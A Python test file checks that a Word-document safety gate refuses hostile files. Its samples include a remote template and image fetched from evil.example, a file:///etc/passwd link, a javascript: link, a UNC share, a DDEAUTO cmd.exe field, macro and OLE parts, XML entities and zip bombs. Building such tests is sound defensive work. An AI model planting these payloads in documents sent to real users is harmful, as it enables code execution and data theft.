"""A Word file from outside: what runs, fetches, hides or blows up is refused before it is opened."""

from __future__ import annotations

from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import docx
import pytest
from docx.opc.constants import RELATIONSHIP_TYPE
from PIL import Image

from reports.documents.letterhead import built_in, logo_in, make, require_letterhead
from reports.documents.safe import LARGEST, MARKUP, Unsafe, require_safe
from reports.documents.word import word
from tests.reports.documents.sample import KAZAKH, chart

RELATIONS, DOCUMENT, TYPES = "word/_rels/document.xml.rels", "word/document.xml", "[Content_Types].xml"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def parts(content: bytes) -> dict[str, bytes]:
    with ZipFile(BytesIO(content)) as packed:
        return {name: packed.read(name) for name in packed.namelist()}


def packed(found: dict[str, bytes]) -> bytes:
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as archive:
        for name, content in found.items():
            archive.writestr(name, content)
    return out.getvalue()


BODY = parts(built_in())[DOCUMENT].decode()


def with_part(name: str, content: bytes) -> bytes:
    return packed({**parts(built_in()), name: content})


def changed(name: str, old: str, new: str) -> bytes:
    found = parts(built_in())
    before = found[name].decode()
    assert old in before
    return packed({**found, name: before.replace(old, new, 1).encode()})


def related(kind: str, target: str, mode: str = "External") -> bytes:
    line = f'<Relationship Id="rId99" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    return changed(RELATIONS, "</Relationships>", line)


def in_body(xml: str) -> bytes:
    return changed(DOCUMENT, "<w:body>", f"<w:body><w:p>{xml}</w:p>")


def field(*said: str) -> str:
    told = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in said)
    return f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{told}<w:r><w:fldChar w:fldCharType="end"/></w:r>'


# How each is made, and why it is refused.
HOSTILE = {
    "another kind of file": (lambda: changed(TYPES, "document.main+xml", "spreadsheet"), "kind"),
    "a file of macros": (
        lambda: changed(
            TYPES, "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            "vnd.ms-word.document.macroEnabled.main+xml",
        ), "code",
    ),
    "a template from elsewhere": (lambda: related("attachedTemplate", "http://evil.example/a.dotm"), "fetches"),
    "a picture from elsewhere": (lambda: related("image", "http://evil.example/a.png"), "fetches"),
    "a picture of the machine": (lambda: related("image", "file:///etc/passwd"), "fetches"),
    "a link that runs": (lambda: related("hyperlink", "javascript:alert(1)"), "fetches"),
    "a link to a share": (lambda: related("hyperlink", "\\\\evil\\share"), "fetches"),
    "code": (lambda: related("vbaProject", "vbaProject.bin", "Internal"), "code"),
    "an object": (lambda: related("oleObject", "embeddings/a.bin", "Internal"), "code"),
    "another document in it": (lambda: related("aFChunk", "a.html", "Internal"), "kind"),
    "a field that runs": (lambda: in_body(field("DDEAUTO c:\\\\cmd.exe")), "code"),
    "a torn field": (lambda: in_body(field("DD", "E", "AUTO x")), "code"),
    "a field made by another": (lambda: in_body(field(field("QUOTE 68 68 69"), " x")), "code"),
    "a simple field": (lambda: in_body('<w:fldSimple w:instr=" INCLUDETEXT x "/>'), "code"),
    "a stray instruction": (lambda: in_body("<w:r><w:instrText>DDE x</w:instrText></w:r>"), "code"),
    "a control": (lambda: in_body("<w:r><w:object/></w:r>"), "code"),
    "entities": (lambda: changed(DOCUMENT, "<w:document", '<!DOCTYPE a [<!ENTITY b "c">]><w:document'), "markup"),
    "an odd alphabet": (lambda: with_part(DOCUMENT, BODY.replace("UTF-8", "UTF-16").encode("utf-16")), "markup"),
    "broken markup": (lambda: changed(DOCUMENT, "</w:body>", ""), "broken"),
    "a bomb": (lambda: with_part("word/media/a.png", bytes(50_000_000)), "size"),
    "a bomb of markup": (lambda: with_part("word/a.xml", b"<a>" + b" " * MARKUP + b"</a>"), "size"),
    "a bomb of elements": (lambda: with_part("word/a.xml", b"<a>" + b"<a/>" * 1_600_000 + b"</a>"), "size"),
    "very many parts": (lambda: packed({**parts(built_in()), **{f"word/{n}.txt": b"" for n in range(500)}}), "size"),
    "a large one": (lambda: b"PK" + bytes(LARGEST), "size"),
    "no archive": (lambda: b"%PDF-1.7", "broken"),
    "nothing": (lambda: b"", "broken"),
    "an empty archive": (lambda: packed({}), "broken"),
    "markup under another name": (lambda: with_part("word/a.dat", b'<!DOCTYPE a [<!ENTITY b "c">]><a/>'), "markup"),
    "half of it": (lambda: built_in()[:20_000], "broken"),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_files_are_refused(name):
    make_it, why = HOSTILE[name]
    content = make_it()
    for refused in (require_safe, require_letterhead, lambda one: word(KAZAKH, one)):
        with pytest.raises(Unsafe) as caught:
            refused(content)
        assert caught.value.why == why


def test_a_sum_that_is_wrong():
    broken = bytearray(built_in())
    broken[300] ^= 0xFF
    with pytest.raises(Unsafe):
        require_safe(bytes(broken))


def test_no_page_in_it():
    empty = parts(built_in())
    empty[DOCUMENT] = (
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'  # nothing to write into
    )
    with pytest.raises(Unsafe):
        require_letterhead(packed(empty))


@pytest.mark.parametrize("picture", [b"", b"GIF89a", b"\x89PNG\r\n\x1a\n" + bytes(50), chart()[:300]])
def test_a_logo_that_cannot_be_shown_is_none(picture):
    own = docx.Document(BytesIO(built_in()))
    own.sections[0].header.paragraphs[0].add_run().add_picture(BytesIO(chart()))
    out = BytesIO()
    own.save(out)
    broken = {name: picture if name.endswith(".png") else content for name, content in parts(out.getvalue()).items()}
    assert logo_in(packed(broken)) == b""
    assert logo_in(built_in()) == b""


def test_ours_is_let_in_and_is_what_the_script_makes():
    require_letterhead(built_in())
    require_safe(word(KAZAKH))
    made, kept = parts(make()), parts(built_in())
    assert made.keys() == kept.keys()
    assert made[DOCUMENT] == kept[DOCUMENT]
    assert made["word/styles.xml"] == kept["word/styles.xml"]


def test_what_letterheads_have_is_let_in():
    """A logo, a link to the site, the page's number and how many there are."""
    own = docx.Document(BytesIO(built_in()))
    header = own.sections[0].header
    header.part.relate_to("https://kasipodaq.example", RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
    header.paragraphs[0].add_run().add_picture(BytesIO(KAZAKH.blocks[4].drawn()))
    out = BytesIO()
    own.save(out)
    require_letterhead(out.getvalue())
    assert Image.open(BytesIO(logo_in(out.getvalue()))).size == (600, 240)
    require_letterhead(in_body(field(" PAGE ") + field(" HYPERLINK ", '"https://a.example/link/import"')))
